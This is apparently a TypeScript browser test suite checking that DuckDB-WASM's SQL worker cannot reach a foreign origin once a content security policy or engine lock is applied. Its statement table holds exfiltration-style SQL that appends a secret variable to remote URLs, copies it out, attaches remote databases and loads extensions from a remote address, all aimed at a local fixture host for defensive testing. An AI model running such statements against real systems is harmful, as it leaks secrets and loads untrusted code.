import { type Header, securityHeaders } from '@data/egress/security-headers';
import { launchTestBrowser } from '@tests/support/chromium';
import { startFixtureSite } from '@tests/support/fixture-site';
import { startForeignHost } from '@tests/support/foreign-host';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { EngineKind } from './fixture-site/engine-driver';

/** Statements that carry a value out when nothing stops them; `$url` is an address of the foreign side. */
const statements = {
  'read a CSV file': `select * from read_csv('$url.csv?' || getvariable('secret'))`,
  'read a text': `select * from read_text('$url.txt?' || getvariable('secret'))`,
  'read a blob': `select * from read_blob('$url.bin')`,
  'name a file as a table': `from '$url.csv'`,
  'attach a database': `attach '$url.duckdb' as other`,
  'copy a table out': `copy (select getvariable('secret')) to '$url.csv'`,
  'load an extension by address': `load '$url.duckdb_extension.wasm'`,
  'load an extension by name': 'load icu',
} as const;
type Name = keyof typeof statements;
const names = Object.keys(statements) as Name[];

interface Outcome {
  readonly arrived: readonly Name[];
  readonly answers: Readonly<Record<Name, string>>;
}

describe('SQL in the worker of DuckDB', { timeout: 240_000 }, () => {
  let browser: Browser;

  beforeAll(async () => {
    browser = await launchTestBrowser();
  });

  afterAll(async () => {
    await browser.close();
  });

  async function tryStatements(headers: readonly Header[], kind: EngineKind): Promise<Outcome> {
    const site = await startFixtureSite({ headers, guarded: true, driver: 'engine' });
    const foreign = await startForeignHost();
    const page = await browser.newPage();
    try {
      await page.goto(site.url);
      await page.evaluate(async (asked) => {
        const driver = await window.startDriver?.(asked);
        if (driver === undefined) throw new Error('the driver did not load');
        window.driver = driver;
      }, kind);
      const ask = (sql: string) => page.evaluate((text) => window.driver?.ask(text) ?? 'no driver', sql);
      await ask(`set custom_extension_repository = '${foreign.origin}/${names.length - 1}'`);
      await ask(`set variable secret = 'a-value-of-the-extract'`);
      expect(await ask('select 1')).toBe('');

      const arrived = new Set<Name>();
      const answers = {} as Record<Name, string>;
      for (const [index, name] of names.entries()) {
        const before = foreign.arrivals.length;
        answers[name] = await ask(statements[name].replaceAll('$url', `${foreign.origin}/${index}`));
        if (foreign.arrivals.length > before) arrived.add(name);
      }
      expect(await ask('select 1'), 'the engine must live to the end').toBe('');
      return { arrived: [...arrived], answers };
    } finally {
      await page.close();
      await foreign.close();
      await site.close();
    }
  }

  it('reaches another origin when neither the policy nor the lock is there', async () => {
    const { arrived } = await tryStatements([], 'unlocked');
    expect(arrived).toEqual(names);
  });

  it('reaches nothing with the lock off, by the policy alone', async () => {
    const { arrived } = await tryStatements(securityHeaders, 'unlocked');
    expect(arrived).toEqual([]);
  });

  it('reaches nothing with the lock off, by the content security policy alone', async () => {
    const policyAlone = securityHeaders.filter(([name]) => name === 'Content-Security-Policy');
    const { arrived } = await tryStatements(policyAlone, 'unlocked');
    expect(arrived).toEqual([]);
  });

  it.each([
    ["by the lock alone in DuckDB's worker", 'locked'],
    ['by the lock alone in the engine of the app', 'app'],
  ] as const)('reaches nothing with the policy off, %s, and is told so', async (_how, kind) => {
    const { arrived, answers } = await tryStatements([], kind);
    expect(arrived).toEqual([]);
    for (const name of names) expect(answers[name], name).toMatch(/permission error|disabled/i);
  });
});
